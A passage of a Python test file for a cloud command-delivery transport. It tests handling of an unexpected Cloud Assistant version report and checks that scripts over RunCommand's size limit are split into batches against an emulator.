    ids = emulator.add_nodes(3)

    def odd_version(answer):
        rows = answer["InstanceCloudAssistantStatusSet"]["InstanceCloudAssistantStatus"]
        for row in rows:
            if row["InstanceId"] == ids[0]:
                row["CloudAssistantVersion"] = version

    emulator.mangle_next("DescribeCloudAssistantStatus", odd_version)
    t = transport(ecs, maker)
    results = t.run(targets(3, prefix="i-emu"))
    assert sorted(outcome(r).outcome for r in results) == ["partitioned"] * 3
    assert t.versions[ids[0]] is None


def test_a_batch_whose_script_would_pass_runcommands_limit_is_split_never_failed(emulator, ecs, maker):
    """The node names travel in the script (zlib, then base64 twice), and real ones do not compress like
    ``cn-test.10.0.0.1``: random instance ids and names of 60 characters (ACK's custom node names, prefix, IP
    and suffix; Kubernetes allows 253) put 100 nodes' script past RunCommand's 24 KB. That batch was refused
    whole, every node ``api-error`` ("cannot happen"); it is sent in smaller batches that fit."""
    import random

    from functions.delivery.cloud_assistant import RUNCOMMAND_LIMIT
    from functions.delivery.outcome import NodeTarget

    rnd = random.Random(46)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    args = tuple(targets(1)[0].args)
    nodes = []
    for _ in range(100):
        iid = "i-" + "".join(rnd.choice(alphabet) for _ in range(20))
        name = "gpu-%s.%d.%d.%d.%d-%s" % ("".join(rnd.choice(alphabet) for _ in range(16)), rnd.randrange(256),
                                          rnd.randrange(256), rnd.randrange(256), rnd.randrange(256),
                                          "".join(rnd.choice(alphabet) for _ in range(20)))
        emulator.nodes[iid] = SimNode()
        nodes.append(NodeTarget(iid, name, "127.0.0.1", args))
    t = transport(ecs, maker)
    results = t.run(nodes)
    assert set(outcomes(results).values()) == {"partitioned"}, sorted(set(
        "%s %s" % (outcome(r).outcome, outcome(r).reason[:120]) for r in results))
    runs = [p for a, p in emulator.requests if a == "RunCommand"]
    assert len(runs) >= 2 and all(len(p["CommandContent"]) <= RUNCOMMAND_LIMIT for p in runs)
    assert sorted(v for p in runs for k, v in p.items() if k.startswith("InstanceId.")) == sorted(
        n.instance_id for n in nodes)  # each node in exactly one batch
